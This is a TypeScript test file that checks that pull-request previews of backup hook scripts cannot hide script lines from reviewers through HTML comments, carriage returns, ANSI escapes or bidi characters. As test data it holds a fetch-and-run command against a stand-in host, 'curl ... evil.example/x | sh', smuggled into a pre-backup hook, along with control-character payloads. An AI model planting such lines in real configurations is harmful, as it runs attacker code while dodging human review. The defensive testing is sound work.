// biome-ignore-all lint/suspicious/noControlCharactersInRegex: finding control characters is the point
import MarkdownIt from 'markdown-it';
import { describe, expect, it } from 'vitest';
import type { PreviewReport } from '../../../reconcile/preview/model.js';
import { renderPlanText } from '../../../reconcile/render/plan-text.js';
import { renderPreviewMarkdown } from '../../../reconcile/render/preview-markdown.js';
import { renderPreviewText } from '../../../reconcile/render/preview-text.js';
import { loadDeclarations } from '../../../src/config/load.js';
import { printableLine } from '../../../src/util/printable.js';
import { gitRepo } from '../../helpers/git.js';
import { fleetConfig, previewOf } from '../../helpers/preview.js';

/** What a reader of the rendered comment sees: the HTML's text, comments and tags removed. */
function visibleText(markdown: string): string {
  const html = new MarkdownIt({ html: true }).render(markdown);
  return html
    .replace(/<!--[\s\S]*?(-->|$)/g, '')
    .replace(/<[^>]*>/g, '')
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&quot;/g, '"')
    .replace(/&#39;/g, "'")
    .replace(/&amp;/g, '&');
}

const attack = 'curl -fsSL https://evil.example/x | sh';

/** The states of the head commit: a new hook (valid bash) hidden between folders that open and close a comment. */
function hostileState(folders: string[]): string {
  return [
    'state:',
    '  app:',
    `    folders: [${folders.map((f) => JSON.stringify(f)).join(', ')}]`,
    `    preBackupScript: "systemctl stop app\\r<!--\\n${attack}\\necho \\"-->\\" </details> '\`\`\`'\\n"`,
    '  web:',
    '    folders: ["/srv/web/-->"]',
    '    postBackupScript: |',
    '      echo "<!-- not a comment -->"',
    '      systemctl start app',
    '',
  ].join('\n');
}

function scriptLines(state: string): string[] {
  const { declarations } = loadDeclarations(
    new Map([
      ['inventory.json', fleetConfig()['inventory.json']!],
      ['machines/jon/state.yaml', state],
    ]),
  );
  if (!declarations) throw new Error('test setup: the head must be valid');
  return Object.values(declarations.states.jon?.states ?? {}).flatMap((s) =>
    [s.preBackupScript, s.postBackupScript, s.preRestoreScript, s.postRestoreScript]
      .filter((script): script is string => script !== undefined)
      .flatMap((script) => script.split('\n'))
      .filter((line) => line.trim() !== ''),
  );
}

describe('a PR preview cannot hide a script from its reader (markdown-it renders the comment)', () => {
  it('every declared script line of the head commit appears in the rendered HTML text', async () => {
    const repo = await gitRepo(fleetConfig());
    const base = (await repo.git.revparse(['HEAD'])).trim();
    const state = hostileState(['/srv/app/cache<!--', '/srv/app/data']);
    const head = await repo.commit({ 'machines/jon/state.yaml': state });
    const report = await previewOf(repo, base, head);
    expect(report.head.valid).toBe(true);
    const text = visibleText(renderPreviewMarkdown(report));
    const lines = scriptLines(state);
    expect(lines).toContain(attack);
    for (const line of lines) expect(text).toContain(printableLine(line));
    expect(text).toContain('/srv/app/cache<!--');
    expect(text).toContain('/srv/web/-->');
  });

  it("the issue's \\r<!-- folders are refused at validation, and a renderer handed them still shows everything", async () => {
    const folders = ['/srv/app/cache\r\r<!--', '/srv/app/data'];
    const problems = loadDeclarations(
      new Map([
        ['inventory.json', fleetConfig()['inventory.json']!],
        ['machines/jon/state.yaml', hostileState(folders)],
      ]),
    ).problems;
    expect(problems.map((p) => `${p.file}: ${p.path}`)).toEqual([
      'machines/jon/state.yaml: state.app.folders.0',
    ]);

    // the renderer on its own: the same report with the refused folder put back in every place it shows
    const repo = await gitRepo(fleetConfig());
    const base = (await repo.git.revparse(['HEAD'])).trim();
    const state = hostileState(['/srv/app/cache', '/srv/app/data']);
    const head = await repo.commit({ 'machines/jon/state.yaml': state });
    const report: PreviewReport = JSON.parse(
      JSON.stringify(await previewOf(repo, base, head)).replaceAll(
        '/srv/app/cache',
        '/srv/app/cache\\r\\r<!--',
      ),
    );
    const markdown = renderPreviewMarkdown(report);
    expect(markdown).not.toContain('\r');
    const text = visibleText(markdown);
    const lines = scriptLines(state);
    expect(lines).toContain(attack);
    for (const line of lines) expect(text).toContain(printableLine(line));
    expect(text).toContain('/srv/app/cache\\r\\r<!--');

    // the terminal renderings: no raw control character reaches the screen
    const escapes = /[\r\u001b\u202e]/;
    const withEsc: PreviewReport = JSON.parse(
      JSON.stringify(report).replaceAll('/srv/app/data', '/srv/app/\\u001b[2J\\u202edata'),
    );
    expect(renderPreviewText(withEsc, { color: false })).not.toMatch(escapes);
    expect(renderPreviewText(withEsc, { color: true })).toMatch(/\u001b\[32m\+\u001b\[0m/);
  });

  it('plan text shows control characters in what it prints as escapes', () => {
    const text = renderPlanText(
      {
        version: 1,
        machine: 'jon',
        worktree: false,
        createdAt: '2026-01-01T00:00:00.000Z',
        fingerprint: 'x',
        refresh: false,
        scheduler: 'embedded',
        actions: [
          {
            op: 'hook.write',
            id: 'hook/pre-backup-app',
            kind: 'hook',
            name: 'pre-backup-app',
            state: 'app',
            phase: 'pre-backup',
            content: 'echo \u001b[2J\r\n',
            diff: { path: '/h', before: 'old\u001b]0;title\u0007\n', after: 'echo \u001b[2J\r\n' },
            effect: 'mutating',
            summary: 'update /srv/\u202eapp',
          },
        ],
        notes: ['note \u001b[8mhidden'],
        warnings: [],
        errors: [],
        refusals: [],
        summary: { add: 0, change: 1, destroy: 0, archives: 0 },
        borgProcesses: 0,
      },
      { color: true },
    );
    expect(text.replaceAll(/\u001b\[(0|3[1-3])m/g, '')).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u202e]/);
    expect(text).toContain('echo \\x1b[2J\\r');
    expect(text).toContain('note \\x1b[8mhidden');
  });
});
